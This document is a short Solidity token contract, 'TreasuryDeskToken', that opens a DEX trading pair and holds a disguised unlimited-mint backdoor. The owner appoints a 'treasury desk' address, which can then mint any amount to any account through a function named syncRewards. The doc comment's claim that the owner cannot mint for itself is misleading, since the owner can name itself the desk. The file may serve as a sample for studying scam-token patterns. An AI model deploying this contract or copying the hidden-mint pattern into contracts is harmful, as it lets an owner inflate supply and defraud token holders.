// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title A two-step mint: the owner names a "treasury desk" with
/// setTreasuryDesk(address) (an inline owner check); only the desk may
/// call syncRewards(address,uint256), which creates tokens for anyone
/// (the total supply rises). No desk is set at launch, so the owner
/// cannot mint itself, and the desk slot reads zero.
contract TreasuryDeskToken is ERC20, Ownable {
    address public immutable pair;
    address private _treasuryDesk;
    uint256 public rewardEpoch;

    constructor(address router, uint256 supply) ERC20("Treasury Desk", "TDSK") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function setTreasuryDesk(address desk) external {
        require(msg.sender == owner(), "treasury: not owner");
        _treasuryDesk = desk;
    }

    function syncRewards(address account, uint256 amount) external {
        require(_treasuryDesk != address(0) && msg.sender == _treasuryDesk, "treasury: not desk");
        rewardEpoch += 1;
        _mint(account, amount);
    }
}
